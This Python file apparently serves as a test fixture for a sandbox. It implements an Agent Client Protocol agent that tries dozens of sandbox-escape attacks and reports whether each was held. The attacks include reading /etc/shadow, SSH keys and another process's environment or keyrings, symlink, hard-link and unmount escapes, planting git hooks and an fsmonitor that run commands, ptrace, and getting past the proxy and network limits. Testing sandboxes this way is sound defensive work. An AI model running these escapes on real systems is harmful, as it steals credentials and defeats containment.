"""An agent that tries to get out of its sandbox. It speaks as much of the Agent Client Protocol as a prompt needs.

A prompt holds `ATTACKS {...}`: the places and numbers that the attacks aim at, and which are made (`only`; else all). The answer
is JSON: attack -> "held: why" or "OUT: what it got". It has the standard library alone, since the sandbox shows it nothing else.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import sys
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND, MNT_DETACH, PTRACE_ATTACH, NEWUSER, NEWNS = 32, 4096, 2, 16, 0x10000000, 0x20000
ATTACKS: dict[str, Callable[[dict[str, Any]], object]] = {}


def attack(function: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, Any]], object]:
    """An attack returns what it got, or nothing; an error means that it was held."""
    ATTACKS[function.__name__.replace("_", " ")] = function
    return function


def call(function: str, *arguments: object) -> None:
    """A function of the C library. Raises OSError."""
    if getattr(LIBC, function)(*arguments) < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


@attack
def processes_of_others(aim: dict[str, Any]) -> object:
    found = []
    for folder in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if folder.name.isdigit() and aim["server_words"] in (folder / "cmdline").read_text():
                found.append(folder.name)
    return found


@attack
def roots_of_processes(aim: dict[str, Any]) -> object:
    for pid in ("1", "self", str(os.getppid()), str(aim["server"])):
        with contextlib.suppress(OSError):
            return Path(f"/proc/{pid}/root{aim['secret']}").read_text()
    return None


@attack
def a_link_to_a_file_outside(aim: dict[str, Any]) -> object:
    Path("link").unlink(missing_ok=True)
    Path("link").symlink_to(aim["secret"])
    return Path("link").read_text()


@attack
def dots_to_a_file_outside(aim: dict[str, Any]) -> object:
    return Path(os.path.relpath(aim["secret"])).read_text()


@attack
def names_and_times_of_a_file_outside(aim: dict[str, Any]) -> object:
    return os.stat(aim["secret"]).st_size


@attack
def rights_of_a_file_outside(aim: dict[str, Any]) -> object:
    os.chmod(aim["secret"], os.stat(aim["secret"]).st_mode)
    return "set"


@attack
def a_hard_link_to_a_file_outside(aim: dict[str, Any]) -> object:
    os.link(aim["secret"], "hard")
    return Path("hard").read_text()


@attack
def a_file_written_outside(aim: dict[str, Any]) -> object:
    Path(aim["outside"], "planted").write_text("x")
    return "written"


@attack
def the_persons_keys(aim: dict[str, Any]) -> object:
    return (Path.home() / ".ssh" / "id_test").read_text()


@attack
def a_denied_file_below_its_mount(aim: dict[str, Any]) -> object:
    with contextlib.suppress(OSError):
        call("umount2", b"denied", MNT_DETACH)
    return Path("denied", "key").read_text()


@attack
def a_denied_file_by_a_hard_link(aim: dict[str, Any]) -> object:
    os.link("denied/key", "sub/key")
    return Path("sub/key").read_text()


@attack
def a_denied_folder_moved_aside(aim: dict[str, Any]) -> object:
    Path("denied").rename("sub/moved")
    return Path("sub/moved/key").read_text()


@attack
def a_fixed_file_cut_short(aim: dict[str, Any]) -> object:
    os.truncate("fixed/file", 0)
    return "cut"


@attack
def a_fixed_file_replaced(aim: dict[str, Any]) -> object:
    Path("sub/file").write_text("x")
    Path("sub/file").rename("fixed/file")
    return "replaced"


@attack
def a_mount_taken_away_in_spaces_of_its_own(aim: dict[str, Any]) -> object:
    call("unshare", NEWUSER | NEWNS)
    with contextlib.suppress(OSError):
        call("umount2", os.fsencode(Path("denied").absolute()), MNT_DETACH)
    return Path("denied", "key").read_text()


@attack
def hooks_remounted(aim: dict[str, Any]) -> object:
    path = os.fsencode(Path(".git/hooks").absolute())
    with contextlib.suppress(OSError):
        call("mount", None, path, None, MS_REMOUNT | MS_BIND, None)
    with contextlib.suppress(OSError):
        call("umount2", path, MNT_DETACH)
    return plant()


def plant() -> object:
    Path(".git/hooks/pre-commit").write_text("#!/bin/sh\ntouch pwned\n")
    return "a hook"


@attack
def hooks_written(aim: dict[str, Any]) -> object:
    return plant()


@attack
def hooks_moved_aside(aim: dict[str, Any]) -> object:
    Path(".git/hooks").rename(".git/hooks-old")
    Path(".git/hooks").mkdir()
    return plant()


@attack
def the_repository_moved_aside(aim: dict[str, Any]) -> object:
    Path(".git").rename(".git-old")
    Path(".git/hooks").mkdir(parents=True)
    return plant()


@attack
def settings_of_git(aim: dict[str, Any]) -> object:
    with Path(".git/config").open("a") as file:
        file.write("[core]\n\tfsmonitor = touch pwned\n")
    return "settings"


@attack
def settings_of_agents(aim: dict[str, Any]) -> object:
    Path("opencode.json").write_text("{}")
    return "rules"


@attack
def a_debugger_on_the_server(aim: dict[str, Any]) -> object:
    call("ptrace", PTRACE_ATTACH, aim["server"], None, None)
    return "attached"


@attack
def a_signal_to_the_server(aim: dict[str, Any]) -> object:
    os.kill(aim["server"], signal.SIGTERM)
    return "sent"


@attack
def a_signal_to_everybody(aim: dict[str, Any]) -> object:
    signal.signal(signal.SIGURG, signal.SIG_IGN)
    os.kill(-1, signal.SIGURG)  # the test looks whether anybody outside got it
    return None


@attack
def the_servers_api(aim: dict[str, Any]) -> object:
    return urllib.request.build_opener(urllib.request.ProxyHandler({})).open(aim["api"], timeout=5).read()[:100].decode()


@attack
def the_servers_api_by_another_protocol(aim: dict[str, Any]) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as connection:  # MPTCP
        connection.connect(address_of(aim))
    return "connected"


@attack
def the_servers_api_by_fast_open(aim: dict[str, Any]) -> object:
    with socket.socket() as connection:
        connection.sendto(b"GET / HTTP/1.1\r\n\r\n", socket.MSG_FASTOPEN, address_of(aim))
    return "sent"


def address_of(aim: dict[str, Any]) -> tuple[str, int]:
    host, port = aim["api"].split("//")[1].split("/")[0].split(":")
    return host, int(port)


@attack
def the_servers_api_by_the_proxy(aim: dict[str, Any]) -> object:
    return tunnel(aim["api"].split("//")[1].split("/")[0])


@attack
def a_host_by_the_proxy(aim: dict[str, Any]) -> object:
    return tunnel("example.com:443")


def tunnel(target: str) -> object:
    proxy = os.environ["HTTPS_PROXY"].rsplit(":", 1)[1]
    with socket.create_connection(("127.0.0.1", int(proxy)), timeout=5) as connection:
        connection.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        answer = connection.recv(100).decode()
    if " 403 " in answer:
        raise OSError(answer.split("\r\n", 1)[0])
    return answer


@attack
def an_abstract_socket(aim: dict[str, Any]) -> object:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + aim["abstract"])
    return "connected"


@attack
def a_socket_of_the_system(aim: dict[str, Any]) -> object:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(aim["socket"])
    return "connected"


@attack
def a_name_server(aim: dict[str, Any]) -> object:
    return socket.getaddrinfo("example.com", 80)


@attack
def a_packet(aim: dict[str, Any]) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.sendto(b"secret", ("192.0.2.1", 53))
    return "sent"


@attack
def memory_of_the_machine(aim: dict[str, Any]) -> object:
    for folder in ("/tmp", str(Path.home()), "/dev/shm", "/run", "/var"):
        with Path(folder, "big").open("wb") as file, contextlib.suppress(OSError):
            os.posix_fallocate(file.fileno(), 0, aim["bytes"])
            return folder
    return None


@attack
def passwords_of_the_system(aim: dict[str, Any]) -> object:
    return Path("/etc/shadow").read_text()


@attack
def capabilities(aim: dict[str, Any]) -> object:
    rows = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
    return rows["CapEff"].strip().strip("0") or rows["CapBnd"].strip().strip("0")


@attack
def the_servers_database(aim: dict[str, Any]) -> object:
    return Path(aim["database"]).read_bytes()[:15]


@attack
def the_servers_environment(aim: dict[str, Any]) -> object:
    return Path(f"/proc/{aim['server']}/environ").read_bytes()[:100]


@attack
def files_left_open_by_the_server(aim: dict[str, Any]) -> object:
    links = (Path("/proc/self/fd", name) for name in os.listdir("/proc/self/fd") if int(name) > 2)
    targets = [os.readlink(link) for link in links if link.is_symlink()]
    return [target for target in targets if not target.startswith(("pipe:", "/proc/"))]


@attack
def keys_of_the_servers_session(aim: dict[str, Any]) -> object:
    return key("@s", aim["key"])


def key(ring: str, name: str) -> object:
    """A key that the kernel keeps: of a session's keyring, or of a user's."""
    call_, search = {"x86_64": (250, 10), "aarch64": (219, 10)}[os.uname().machine]
    found = LIBC.syscall(call_, search, ctypes.c_int({"@s": -3, "@u": -4}[ring]), b"user", name.encode(), 0)
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"key {found}"


@attack
def keys_of_the_servers_user(aim: dict[str, Any]) -> object:
    return key("@u", aim["key"])


@attack
def settings_of_the_kernel(aim: dict[str, Any]) -> object:
    path = Path("/proc/sys/vm/swappiness")
    path.write_text(path.read_text())
    return "written"


@attack
def a_device(aim: dict[str, Any]) -> object:
    os.mknod("memory", 0o600 | 0o020000, os.makedev(1, 1))
    return Path("memory").open("rb").read(1)


@attack
def more_rights_by_a_program(aim: dict[str, Any]) -> object:
    rows = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
    return "" if rows["NoNewPrivs"].strip() == "1" else "a setuid program would have its owner's rights"


def results(aim: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """Each attack in a process of its own, so that one that changes itself changes no other."""
    for name in aim.get("only", ATTACKS):
        reader, writer = os.pipe()
        child = os.fork()
        if not child:
            resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
            try:
                got = ATTACKS[name](aim)
                said = f"OUT: {got}" if got else "held: nothing was there"
            except Exception as error:
                said = f"held: {error}"
            os.write(writer, said[:500].encode())
            os._exit(0)
        os.close(writer)
        with os.fdopen(reader, "rb") as pipe:
            yield name, pipe.read().decode()
        os.waitpid(child, 0)


def say(message: dict[str, Any]) -> None:
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", **message}) + "\n")
    sys.stdout.flush()


def main() -> None:
    for line in sys.stdin:
        request = json.loads(line)
        answer: dict[str, Any] = {}
        match request.get("method"):
            case "initialize":
                answer = {"protocolVersion": 1, "agentCapabilities": {}, "authMethods": []}
            case "session/new":
                answer = {"sessionId": "hostile"}
            case "session/prompt":
                prompt = "".join(block.get("text", "") for block in request["params"]["prompt"])
                text = json.dumps(dict(results(json.loads(prompt.split("ATTACKS ", 1)[1]))))
                update = {"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": text}}
                params = {"sessionId": "hostile", "update": update}
                say({"method": "session/update", "params": params})
                answer = {"stopReason": "end_turn"}
        if "id" in request:
            say({"id": request["id"], "result": answer})


main()
